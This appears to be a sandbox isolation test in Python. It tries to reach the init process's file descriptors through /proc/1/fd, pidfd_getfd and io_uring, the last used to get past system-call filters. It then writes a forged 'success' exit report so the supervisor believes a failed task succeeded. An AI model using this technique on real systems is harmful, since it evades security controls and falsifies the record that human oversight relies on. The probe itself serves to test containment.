# Inside a task: forges the report its init sends wfc through the shim (an
# ExitReport: kind Exited, code 0, no error, no leftovers, step 0; five int32)
# so that wfc believes the task succeeded, then exits 3. The report pipe is
# one of the init's descriptors: the task tries to get at each (0..63, and
# whatever /proc/1/fd lists) by re-opening /proc/1/fd/N for writing, by
# pidfd_getfd(2), and by io_uring's openat (which no system call filter
# sees), and writes the forged report to whatever it gets. Prints what it
# got and what refused it.
import ctypes
import errno
import mmap
import os
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
PIDFD_OPEN, PIDFD_GETFD, IO_URING_SETUP, IO_URING_ENTER = 434, 438, 425, 426
FORGED = struct.pack("<5i", 0, 0, 0, 0, 0)

try:
    listed = [int(n) for n in os.listdir("/proc/1/fd")]
except OSError:
    listed = []
numbers = sorted(set(listed) | set(range(64)))
written, refused = [], set()


def forge(how, fd):
    try:
        os.write(fd, FORGED)
        written.append(how)
    except OSError as e:
        refused.add(f"{how} write {errno.errorcode[e.errno]}")
    finally:
        os.close(fd)


for n in numbers:
    try:
        forge(f"/proc/1/fd/{n}", os.open(f"/proc/1/fd/{n}", os.O_WRONLY | os.O_NONBLOCK))
    except OSError as e:
        if e.errno != errno.ENOENT:
            refused.add(f"/proc/1/fd {errno.errorcode[e.errno]}")

pidfd = libc.syscall(PIDFD_OPEN, 1, 0)
if pidfd < 0:
    refused.add(f"pidfd_open {errno.errorcode[ctypes.get_errno()]}")
else:
    for n in numbers:
        fd = libc.syscall(PIDFD_GETFD, pidfd, n, 0)
        if fd >= 0:
            forge(f"pidfd_getfd {n}", fd)
        elif ctypes.get_errno() != errno.EBADF:
            refused.add(f"pidfd_getfd {errno.errorcode[ctypes.get_errno()]}")

# io_uring: openat of /proc/1/fd/N as an operation of a ring.
params = ctypes.create_string_buffer(120)
ring = libc.syscall(ctypes.c_long(IO_URING_SETUP), ctypes.c_long(4), params)
if ring < 0:
    refused.add(f"io_uring_setup {errno.errorcode[ctypes.get_errno()]}")
else:
    p = params.raw
    sq_entries, cq_entries = struct.unpack_from("<II", p, 0)
    sq_off, cq_off = struct.unpack_from("<7I", p, 40), struct.unpack_from("<6I", p, 80)
    sq = mmap.mmap(ring, sq_off[6] + sq_entries * 4, offset=0)
    cq = mmap.mmap(ring, cq_off[5] + cq_entries * 16, offset=0x8000000)
    sqes = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
    for n in numbers:
        path = ctypes.create_string_buffer(f"/proc/1/fd/{n}".encode())
        tail, mask = (struct.unpack_from("<I", sq, o)[0] for o in sq_off[1:3])
        i = tail & mask
        sqes[i * 64:(i + 1) * 64] = struct.pack("<BBHiQQIIQHHiQQ", 18, 0, 0, -100, 0,
                                                ctypes.addressof(path), 0,
                                                os.O_WRONLY | os.O_NONBLOCK, 1, 0, 0, 0, 0, 0)
        struct.pack_into("<I", sq, sq_off[6] + 4 * i, i)
        struct.pack_into("<I", sq, sq_off[1], tail + 1)
        if libc.syscall(ctypes.c_long(IO_URING_ENTER), ctypes.c_long(ring), ctypes.c_long(1),
                        ctypes.c_long(1), ctypes.c_long(1), None, ctypes.c_long(0)) < 0:
            refused.add(f"io_uring_enter {errno.errorcode[ctypes.get_errno()]}")
            break
        head, cmask = (struct.unpack_from("<I", cq, o)[0] for o in (cq_off[0], cq_off[2]))
        res = struct.unpack_from("<QiI", cq, cq_off[5] + 16 * (head & cmask))[1]
        struct.pack_into("<I", cq, cq_off[0], head + 1)
        if res >= 0:
            forge(f"io_uring /proc/1/fd/{n}", res)
        elif -res != errno.ENOENT:
            refused.add(f"io_uring /proc/1/fd {errno.errorcode[-res]}")

print("init descriptors listed:", len(listed), flush=True)
print("forged report written through:", ", ".join(written) or "nothing", flush=True)
print("refused:", ", ".join(sorted(refused)) or "nothing", flush=True)
sys.exit(3)
